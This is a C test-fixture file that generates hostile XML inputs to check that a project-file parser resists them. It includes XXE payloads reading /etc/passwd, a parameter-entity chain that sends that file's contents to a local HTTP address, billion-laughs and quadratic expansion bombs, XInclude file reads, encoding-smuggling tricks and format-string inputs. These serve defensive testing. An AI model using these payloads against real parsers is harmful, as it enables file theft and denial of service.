/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include "hostile-files.h"

#include <string.h>

#define XML "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
#define ROOT "<fujin-project xmlns=\"https://fujin.jp/ns/project/1\" version=\"1.0\""             \
             " framework=\"x1060-2021\">\n"
#define TAIL "</fujin-project>\n"
#define PLAN(body) XML ROOT body TAIL
#define DTD(subset, body) XML "<!DOCTYPE fujin-project " subset ">\n" ROOT body TAIL
#define TITLE(text) PLAN (" <title>" text "</title>\n")
#define CLAIM(encoding) "<?xml version=\"1.0\" encoding=\"" encoding "\"?>\n" ROOT TAIL
#define SIZED(name, text) { name, text, sizeof text - 1, NULL }

static void
begin (GString *out)
{
  g_string_append (out, XML ROOT);
}

static void
repeat (GString    *out,
        const char *text,
        guint       n)
{
  for (guint i = 0; i < n; i++)
    g_string_append (out, text);
}

static void
make_laughs (GString *out)
{
  g_string_append (out, XML "<!DOCTYPE fujin-project [<!ENTITY l0 \"lol\">");
  for (guint i = 1; i < 10; i++)
    g_string_append_printf (out,
                            "<!ENTITY l%1$u \"&l%2$u;&l%2$u;&l%2$u;&l%2$u;&l%2$u;&l%2$u;&l%2$u;"
                            "&l%2$u;&l%2$u;&l%2$u;\">\n", i, i - 1);
  g_string_append (out, "]>\n" ROOT " <title>&l9;</title>\n" TAIL);
}

static void
make_quadratic (GString *out)
{
  g_string_append (out, XML "<!DOCTYPE fujin-project [<!ENTITY a \"");
  repeat (out, "aaaaaaaaaa", 10000);
  g_string_append (out, "\">]>\n" ROOT " <title>");
  repeat (out, "&a;", 100000);
  g_string_append (out, "</title>\n" TAIL);
}

static void
make_doctype_far (GString *out)
{
  g_string_append (out, XML "<!--");
  repeat (out, "padding ", 100000);
  g_string_append (out, "--><!DOCTYPE fujin-project SYSTEM \"file:///etc/passwd\">\n" ROOT TAIL);
}

static void
make_depth (GString *out)
{
  begin (out);
  repeat (out, "<a>", 1000000);
}

static void
make_depth_closed (GString *out)
{
  begin (out);
  repeat (out, "<a>", 200);
  repeat (out, "</a>", 200);
  g_string_append (out, TAIL);
}

static void
make_attributes (GString *out)
{
  g_string_append (out, XML "<fujin-project xmlns=\"https://fujin.jp/ns/project/1\"");
  for (guint i = 0; i < 50000; i++)
    g_string_append_printf (out, " a%u=\"\"", i);
  g_string_append (out, "/>\n");
}

static void
make_namespaces (GString *out)
{
  g_string_append (out, XML "<fujin-project xmlns=\"https://fujin.jp/ns/project/1\"");
  for (guint i = 0; i < 50000; i++)
    g_string_append_printf (out, " xmlns:a%u=\"urn:x\"", i);
  g_string_append (out, "/>\n");
}

static void
make_attribute_long (GString *out)
{
  begin (out);
  g_string_append (out, "<x y=\"");
  repeat (out, "aaaaaaaaaaaaaaaa", 700000);
  g_string_append (out, "\"/>\n" TAIL);
}

static void
make_name_long (GString *out)
{
  begin (out);
  g_string_append_c (out, '<');
  repeat (out, "abc", 17000);
  g_string_append (out, "/>\n" TAIL);
}

static void
make_attribute_name_long (GString *out)
{
  begin (out);
  g_string_append (out, "<x ");
  repeat (out, "abc", 17000);
  g_string_append (out, "=\"\"/>\n" TAIL);
}

static void
make_names (GString *out)
{
  begin (out);
  for (guint i = 0; i < 100000; i++)
    g_string_append_printf (out, "<a%u/>\n", i);
  g_string_append (out, TAIL);
}

static void
make_siblings (GString *out)
{
  begin (out);
  repeat (out, "<x/>\n", 1000000);
  g_string_append (out, TAIL);
}

static void
make_siblings_fewer (GString *out)
{
  begin (out);
  repeat (out, "<x/>\n", 300000);
  g_string_append (out, TAIL);
}

static void
make_text (GString *out)
{
  begin (out);
  g_string_append (out, " <note>");
  repeat (out, "text text text text text ", 2000000);
  g_string_append (out, "</note>\n" TAIL);
}

static void
make_references (GString *out)
{
  begin (out);
  g_string_append (out, " <note>");
  repeat (out, "&amp;", 4000000);
  g_string_append (out, "</note>\n" TAIL);
}

static void
make_less (GString *out)
{
  begin (out);
  repeat (out, "<<<<<<<<<<", 1500000);
}

static void
make_quotes (GString *out)
{
  begin (out);
  repeat (out, "<a b=\"", 1000000);
}

static void
make_comments (GString *out)
{
  begin (out);
  repeat (out, "<!---->", 1000000);
  g_string_append (out, TAIL);
}

static void
make_instructions (GString *out)
{
  begin (out);
  repeat (out, "<?a?>", 1000000);
  g_string_append (out, TAIL);
}

static void
make_cdata (GString *out)
{
  begin (out);
  g_string_append (out, " <note>");
  repeat (out, "<![CDATA[]]>", 1000000);
  g_string_append (out, "</note>\n" TAIL);
}

static void
make_cdata_open (GString *out)
{
  begin (out);
  repeat (out, "<![CDATA[", 1000000);
}

static void
make_ends (GString *out)
{
  begin (out);
  repeat (out, "</x>", 1000000);
}

static void
make_blanks (GString *out)
{
  begin (out);
  repeat (out, "                                ", 500000);
  g_string_append (out, TAIL);
}

static void
make_line_ends (GString *out)
{
  begin (out);
  repeat (out, "\r\r\r\r\r\r\r\r\n\n\n\n\n\n\n\n", 500000);
  g_string_append (out, TAIL);
}

static void
make_teams_same (GString *out)
{
  begin (out);
  g_string_append (out, " <teams>\n");
  repeat (out, "  <team id=\"t-a\"><name>A</name><kind>internal</kind></team>\n", 50000);
  g_string_append (out, " </teams>\n" TAIL);
}

/* Each below the one before it: a search for circles must not walk all the way each time. */
static void
make_teams_chain (GString *out)
{
  begin (out);
  g_string_append (out, " <teams>\n");
  for (guint i = 0; i < 20000; i++)
    g_string_append_printf (out,
                            "  <team id=\"t-%u\">\n   <name>A</name>\n   <kind>internal</kind>\n"
                            "   <parent>t-%u</parent>\n  </team>\n", i, i > 0 ? i - 1 : 19999);
  g_string_append (out, " </teams>\n" TAIL);
}

static void
make_assigned (GString *out)
{
  begin (out);
  g_string_append (out, " <plans>\n  <plan service=\"A-1\">\n");
  repeat (out, "   <assigned team=\"t-a\"/>\n", 100000);
  g_string_append (out, "  </plan>\n </plans>\n" TAIL);
}

static void
make_services (GString *out)
{
  begin (out);
  g_string_append (out, " <improvements>\n  <improvement id=\"i-a\">\n   <services>");
  repeat (out, "A-1 ", 200000);
  g_string_append (out, "</services>\n   <cycle>short</cycle>\n   <state>proposed</state>\n"
                        "  </improvement>\n </improvements>\n" TAIL);
}

static void
make_defects (GString *out)
{
  begin (out);
  g_string_append (out, " <plans>\n");
  repeat (out, "  <plan service=\"Q-99\"><level>huge</level></plan>\n", 50000);
  g_string_append (out, " </plans>\n" TAIL);
}

static void
make_logo (GString *out)
{
  /* A picture of 60,000 by 60,000 pixels, if one believes its head. */
  begin (out);
  g_string_append (out, " <reports>\n  <report id=\"e-a\">\n   <language>ja</language>\n"
                        "   <paper>a4-portrait</paper>\n   <logo>iVBORw0KGgoAAAANSUhEUgAA6mAAAOpg"
                        "CAYAAADdAkFTAAAAC0lEQVR42mNgAAIAAAUAAeImBZsAAAAASUVORK5CYII=</logo>\n"
                        "  </report>\n </reports>\n" TAIL);
}

static void
make_states (GString *out)
{
  begin (out);
  g_string_append (out, " <snapshots>\n");
  for (guint i = 0; i < 20000; i++)
    g_string_append_printf (out, "  <snapshot id=\"v-%u\">\n   <kind>version</kind>\n"
                                 "   <state>\n   </state>\n  </snapshot>\n", i);
  g_string_append (out, " </snapshots>\n" TAIL);
}

static void
make_state_in_state (GString *out)
{
  begin (out);
  repeat (out, "<snapshots><snapshot id=\"v-a\"><kind>version</kind><state>", 15);
  repeat (out, "</state></snapshot></snapshots>", 15);
  g_string_append (out, TAIL);
}

static void
make_too_large (GString *out)
{
  begin (out);
  repeat (out, "                                ", 2 * 1024 * 1024 + 1);
  g_string_append (out, TAIL);
}

const HostileFile hostile_files[] = {
  { "doctype", DTD ("", ""), 0, NULL },
  { "doctype-small", XML "<!doctype fujin-project>\n" ROOT TAIL, 0, NULL },
  { "doctype-system", DTD ("SYSTEM \"file:///etc/passwd\"", ""), 0, NULL },
  { "doctype-public", DTD ("PUBLIC \"-//X//Y\" \"http://127.0.0.1:9/x.dtd\"", ""), 0, NULL },
  { "doctype-network", DTD ("SYSTEM \"ftp://127.0.0.1:9/x.dtd\"", ""), 0, NULL },
  { "doctype-unc", DTD ("SYSTEM \"\\\\\\\\127.0.0.1\\\\share\\\\x.dtd\"", ""), 0, NULL },
  { "doctype-after-mark", "\xef\xbb\xbf" DTD ("SYSTEM \"file:///etc/passwd\"", ""), 0, NULL },
  { "doctype-after-comment", XML "<!-- > --><!DOCTYPE a [<!ENTITY b \"c\">]>\n" ROOT TAIL, 0,
    NULL },
  { "doctype-after-instruction", XML "<?a <!-- ?><!DOCTYPE a>\n" ROOT TAIL, 0, NULL },
  { "doctype-far", NULL, 0, make_doctype_far },
  { "doctype-inside", PLAN ("<!DOCTYPE a SYSTEM \"file:///etc/passwd\">\n"), 0, NULL },
  { "doctype-behind", PLAN ("") "<!DOCTYPE a SYSTEM \"file:///etc/passwd\">\n", 0, NULL },
  { "entity-internal", DTD ("[<!ENTITY a \"b\">]", " <title>&a;</title>\n"), 0, NULL },
  { "entity-file", DTD ("[<!ENTITY a SYSTEM \"file:///etc/hostname\">]", " <title>&a;</title>\n"),
    0, NULL },
  { "entity-network", DTD ("[<!ENTITY a SYSTEM \"http://127.0.0.1:9/\">]",
                           " <title>&a;</title>\n"), 0, NULL },
  { "entity-device", DTD ("[<!ENTITY a SYSTEM \"/dev/zero\">]", " <title>&a;</title>\n"), 0,
    NULL },
  { "entity-parameter", DTD ("[<!ENTITY % a \"<!ENTITY b 'c'>\"> %a;]", " <title>&b;</title>\n"),
    0, NULL },
  { "entity-parameter-file",
    DTD ("[<!ENTITY % a SYSTEM \"file:///etc/passwd\"><!ENTITY % b \"<!ENTITY c SYSTEM "
         "'http://127.0.0.1:9/?%a;'>\"> %b;]", " <title>&c;</title>\n"), 0, NULL },
  { "entity-circle", DTD ("[<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]", " <title>&a;</title>\n"), 0,
    NULL },
  { "entity-unparsed", DTD ("[<!NOTATION n SYSTEM \"/bin/sh\">"
                            "<!ENTITY a SYSTEM \"x\" NDATA n>]", ""), 0, NULL },
  { "entity-undeclared", TITLE ("&a;"), 0, NULL },
  { "entity-of-html", TITLE ("&nbsp;&copy;"), 0, NULL },
  { "entity-in-attribute", PLAN (" <x y=\"&a;\"/>\n"), 0, NULL },
  { "laughs", NULL, 0, make_laughs },
  { "quadratic", NULL, 0, make_quadratic },
  { "attlist", PLAN ("<!ATTLIST plan service CDATA \"A-1\">\n"), 0, NULL },
  { "element-declaration", PLAN ("<!ELEMENT plan ANY>\n"), 0, NULL },
  { "conditional", PLAN ("<![INCLUDE[<!ENTITY a \"b\">]]>\n"), 0, NULL },
  { "xinclude", PLAN (" <xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\""
                      " href=\"file:///etc/passwd\" parse=\"text\"/>\n"), 0, NULL },
  { "xinclude-in-title", TITLE ("<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\""
                                " href=\"/etc/hostname\" parse=\"text\"/>"), 0, NULL },
  { "xlink", PLAN (" <x xmlns:xlink=\"http://www.w3.org/1999/xlink\""
                   " xlink:href=\"http://127.0.0.1:9/\" xlink:actuate=\"onLoad\"/>\n"), 0, NULL },
  { "stylesheet", XML "<?xml-stylesheet type=\"text/xsl\" href=\"file:///etc/passwd\"?>\n" ROOT
    TAIL, 0, NULL },
  { "stylesheet-network", XML "<?xml-stylesheet type=\"text/css\" href=\"http://127.0.0.1:9/\"?>\n"
    ROOT TAIL, 0, NULL },
  { "model", XML "<?xml-model href=\"http://127.0.0.1:9/a.rng\"?>\n" ROOT TAIL, 0, NULL },
  { "catalogue", XML "<?oasis-xml-catalog catalog=\"http://127.0.0.1:9/c.xml\"?>\n" ROOT TAIL, 0,
    NULL },
  { "schema-location", XML "<fujin-project xmlns=\"https://fujin.jp/ns/project/1\" version=\"1.0\""
    " framework=\"x1060-2021\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\""
    " xsi:schemaLocation=\"https://fujin.jp/ns/project/1 file:///etc/passwd\">\n" TAIL, 0, NULL },
  { "base", PLAN (" <x xml:base=\"file:///etc/\"/>\n"), 0, NULL },
  { "claim-utf-7", CLAIM ("UTF-7") "+ADwAIQ-DOCTYPE a SYSTEM +ACI-file:///etc/passwd+ACIAPg-", 0,
    NULL },
  { "claim-utf-16", CLAIM ("UTF-16"), 0, NULL },
  { "claim-ebcdic", CLAIM ("IBM037"), 0, NULL },
  { "claim-latin", CLAIM ("ISO-8859-1"), 0, NULL },
  { "claim-shift-jis", CLAIM ("Shift_JIS"), 0, NULL },
  { "claim-iso-2022", CLAIM ("ISO-2022-JP"), 0, NULL },
  { "claim-unknown", CLAIM ("x-nothing"), 0, NULL },
  { "claim-path", CLAIM ("../../../../tmp/x"), 0, NULL },
  { "ebcdic", "\x4c\x6f\xa7\x94\x93\x40\xa5\x85\x99\xa2\x89\x96\x95\x7e\x7f\xf1\x4b\xf0\x7f\x6f"
    "\x6e", 0, NULL },
  SIZED ("utf-16", "\xff\xfe<\0!\0D\0O\0C\0T\0Y\0P\0E\0 \0a\0>\0"),
  SIZED ("utf-32", "\0\0\xfe\xff\0\0\0<\0\0\0a\0\0\0/\0\0\0>"),
  { "xml-1.1", "<?xml version=\"1.1\"?>\n" ROOT " <title>a\xc2\x85z</title>\n" TAIL, 0, NULL },
  { "standalone", "<?xml version=\"1.0\" standalone=\"no\"?>\n" ROOT TAIL, 0, NULL },
  { "two-declarations", XML XML ROOT TAIL, 0, NULL },
  { "late-declaration", "\n" XML ROOT TAIL, 0, NULL },
  { "mark", "\xef\xbb\xbf" PLAN (""), 0, NULL },
  { "mark-inside", TITLE ("a\xef\xbb\xbfz"), 0, NULL },
  { "prefix-undeclared", PLAN (" <a:b/>\n"), 0, NULL },
  { "prefix-of-attribute", PLAN (" <plans a:b=\"c\"/>\n"), 0, NULL },
  { "prefix-xml", PLAN (" <x xmlns:xml=\"urn:other\"/>\n"), 0, NULL },
  { "prefix-xmlns", PLAN (" <x xmlns:xmlns=\"urn:other\"/>\n"), 0, NULL },
  { "prefix-empty", PLAN (" <x xmlns:a=\"\"/>\n"), 0, NULL },
  { "namespace-none", PLAN (" <plans xmlns=\"\"/>\n"), 0, NULL },
  { "namespaces", NULL, 0, make_namespaces },
  { "cdata-doctype", TITLE ("<![CDATA[<!DOCTYPE a SYSTEM 'file:///etc/passwd'>]]>"), 0, NULL },
  { "cdata-end", TITLE ("]]>"), 0, NULL },
  { "cdata-open", TITLE ("<![CDATA["), 0, NULL },
  { "cdata-many", NULL, 0, make_cdata },
  { "cdata-open-many", NULL, 0, make_cdata_open },
  { "comment-dashes", PLAN ("<!-- a -- b -->\n"), 0, NULL },
  { "comment-open", PLAN ("<!-- "), 0, NULL },
  { "comment-many", NULL, 0, make_comments },
  { "instruction-open", PLAN ("<?a "), 0, NULL },
  { "instruction-xml", PLAN ("<?XML version=\"1.0\"?>\n"), 0, NULL },
  { "instruction-many", NULL, 0, make_instructions },
  SIZED ("zero", TITLE ("a\0z")),
  SIZED ("zero-in-tag", PLAN ("<ti\0tle>")),
  { "control", TITLE ("a\x01z"), 0, NULL },
  { "escape", TITLE ("a\x1b[2Jz"), 0, NULL },
  { "control-c1", TITLE ("a\xc2\x9bz"), 0, NULL },
  { "reference-zero", TITLE ("&#0;"), 0, NULL },
  { "reference-control", TITLE ("&#x1;"), 0, NULL },
  { "reference-half", TITLE ("&#xD800;"), 0, NULL },
  { "reference-none", TITLE ("&#xFFFE;"), 0, NULL },
  { "reference-beyond", TITLE ("&#x110000;"), 0, NULL },
  { "reference-huge", TITLE ("&#99999999999999999999;"), 0, NULL },
  { "reference-doctype", TITLE ("&#60;!DOCTYPE a&#62;"), 0, NULL },
  { "references", NULL, 0, make_references },
  { "noncharacter", TITLE ("a\xef\xbf\xbez"), 0, NULL },
  { "half-of-pair", TITLE ("a\xed\xa0\x80z"), 0, NULL },
  { "too-long-form", XML "\xc0\xbc!DOCTYPE a>\n" ROOT TAIL, 0, NULL },
  { "direction", TITLE ("a\xe2\x80\xaez"), 0, NULL },
  { "attribute-twice", PLAN (" <plans><plan service=\"A-1\" service=\"A-2\"/></plans>\n"), 0,
    NULL },
  { "attribute-bare", PLAN (" <plans><plan service=A-1/></plans>\n"), 0, NULL },
  { "attribute-less", PLAN (" <plans><plan service=\"<\"/></plans>\n"), 0, NULL },
  { "attribute-long", NULL, 0, make_attribute_long },
  { "attribute-name-long", NULL, 0, make_attribute_name_long },
  { "attributes", NULL, 0, make_attributes },
  { "depth", NULL, 0, make_depth },
  { "depth-closed", NULL, 0, make_depth_closed },
  { "name-long", NULL, 0, make_name_long },
  { "names", NULL, 0, make_names },
  { "siblings", NULL, 0, make_siblings },
  { "siblings-fewer", NULL, 0, make_siblings_fewer },
  { "text", NULL, 0, make_text },
  { "less", NULL, 0, make_less },
  { "quotes", NULL, 0, make_quotes },
  { "ends", NULL, 0, make_ends },
  { "blanks", NULL, 0, make_blanks },
  { "line-ends", NULL, 0, make_line_ends },
  { "too-large", NULL, 0, make_too_large },
  { "teams-same", NULL, 0, make_teams_same },
  { "teams-chain", NULL, 0, make_teams_chain },
  { "assigned", NULL, 0, make_assigned },
  { "services", NULL, 0, make_services },
  { "defects", NULL, 0, make_defects },
  { "logo", NULL, 0, make_logo },
  { "states", NULL, 0, make_states },
  { "state-in-state", NULL, 0, make_state_in_state },
  { "id-with-blank", PLAN (" <teams><team id=\"t a\"><name>A</name><kind>internal</kind></team>"
                           "</teams>\n"), 0, NULL },
  { "id-path", PLAN (" <teams><team id=\"../../x\"><name>A</name><kind>internal</kind></team>"
                     "</teams>\n"), 0, NULL },
  { "number-huge", PLAN (" <present-pattern>99999999999999999999</present-pattern>\n"), 0, NULL },
  { "number-negative", PLAN (" <present-pattern>-2</present-pattern>\n"), 0, NULL },
  { "number-float", PLAN (" <present-pattern>1e400</present-pattern>\n"), 0, NULL },
  { "number-other-digits", PLAN (" <present-pattern>\xef\xbc\x92</present-pattern>\n"), 0, NULL },
  { "version-huge", "<fujin-project xmlns=\"https://fujin.jp/ns/project/99999999999999\""
    " version=\"99999999999999.1\" framework=\"x1060-2021\">\n" TAIL, 0, NULL },
  { "format", TITLE ("%s%n%1$s%99999999d"), 0, NULL },
  { "format-in-name", PLAN (" <a.-_%s/>\n"), 0, NULL },
  { "two-roots", PLAN ("") ROOT TAIL, 0, NULL },
  { "gzip", "\x1f\x8b\x08", 0, NULL },
};

const guint hostile_n_files = G_N_ELEMENTS (hostile_files);

/* The content of a file. */
GBytes *
hostile_file_make (const HostileFile *file)
{
  GString *out;

  if (file->make == NULL)
    return g_bytes_new_static (file->content,
                               file->size > 0 ? file->size : strlen (file->content));
  out = g_string_new (NULL);
  file->make (out);
  return g_string_free_to_bytes (out);
}
